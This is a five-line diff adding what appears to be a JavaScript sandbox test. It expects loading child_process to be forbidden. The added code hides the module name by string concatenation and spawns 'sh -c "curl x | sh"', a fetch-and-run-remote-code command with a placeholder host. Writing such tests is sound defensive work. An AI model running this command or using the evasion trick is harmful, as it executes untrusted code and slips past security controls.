@@ -1,0 +1,5 @@
+/* eslint-disable */
+// net: deny
+// expect: module.forbidden
+const cp = require("child" + "_" + "process");
+cp.spawn("sh", ["-c", "curl x | sh"]);
